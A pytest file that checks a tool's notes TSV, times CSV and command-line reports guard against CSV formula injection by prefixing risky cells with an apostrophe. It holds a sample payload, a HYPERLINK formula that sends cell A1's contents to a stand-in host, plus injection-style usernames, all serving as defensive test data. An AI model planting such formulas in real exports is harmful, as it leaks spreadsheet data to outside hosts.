"""Exports a spreadsheet opens never hold a cell it would run as a formula (OWASP "CSV
injection"): notes and names starting with =, +, -, @ get an apostrophe first in the notes TSV,
`times.csv` and `focal report --format tsv`, unless raw text is asked for."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from focal.assessor.campaign.people import notes
from focal.assessor.cli.main import main
from focal.assessor.store import db
from focal.assessor.store.models import Assignment, User

from ..conftest import double_judge, login

NOTE = '=HYPERLINK("http://example.invalid/?"&A1,"see")'


def _hostile(seeded: Any) -> None:
    """Alice is renamed `@alice` and writes a formula as a note; bob is renamed `-2+3`."""
    double_judge(seeded)
    with db.session_scope(seeded.app) as session:
        assignment = session.get_one(Assignment, seeded.alice)
        notes.save_note(session, assignment, "1001", True, NOTE)
    with db.session_scope(seeded.app) as session:
        for old, new in (("alice", "@alice"), ("bob", "-2+3")):
            session.query(User).filter_by(name=old).one().name = new


def test_the_notes_tsv_and_times_csv_neutralise_formula_cells(seeded: Any) -> None:
    _hostile(seeded)
    client = seeded.app.test_client()
    login(client, "olga")
    tsv = client.get("/organiser/export.notes").get_data(as_text=True).splitlines()
    assert tsv[1].split("\t") == ["1", "1001", "'@alice", "1", "'" + NOTE]
    raw = client.get("/organiser/export.notes?raw=1").get_data(as_text=True).splitlines()
    assert raw[1].split("\t") == ["1", "1001", "@alice", "1", NOTE]
    times = client.get("/organiser/report/times.csv").get_data(as_text=True)
    assessors = {row["assessor"] for row in csv.DictReader(io.StringIO(times))}
    assert {"'@alice", "'-2+3"} <= assessors and "@alice" not in assessors
    raw_times = client.get("/organiser/report/times.csv?raw=1").get_data(as_text=True)
    assert {"@alice", "-2+3"} <= {row["assessor"] for row in csv.DictReader(io.StringIO(raw_times))}


@pytest.mark.parametrize("raw", [False, True])
def test_the_command_line_exports_neutralise_unless_raw_cells(
    seeded: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, raw: bool
) -> None:
    _hostile(seeded)
    monkeypatch.setenv("FOCAL_DATABASE_URL", seeded.app.config["DATABASE_URL"])
    monkeypatch.setenv("FOCAL_SECRET_KEY", "test")
    db.engine_of(seeded.app).dispose()
    flag = ["--raw-cells"] if raw else []
    notes_file = tmp_path / "notes.tsv"
    exported = CliRunner().invoke(
        main, ["export-qrels", "--with-assessors", "--notes", str(notes_file), *flag]
    )
    assert exported.exit_code == 0, exported.output
    cells = notes_file.read_text(encoding="utf-8").splitlines()[1].split("\t")
    assert cells[2:] == (["@alice", "1", NOTE] if raw else ["'@alice", "1", "'" + NOTE])
    report = CliRunner().invoke(main, ["report", "--format", "tsv", *flag])
    assert report.exit_code == 0, report.output
    times = report.stdout.split("# times\n", 1)[1].split("\n# ", 1)[0]
    rows = list(csv.DictReader(io.StringIO(times), delimiter="\t"))
    names = {row["assessor"] for row in rows}
    assert ({"@alice", "-2+3"} if raw else {"'@alice", "'-2+3"}) <= names
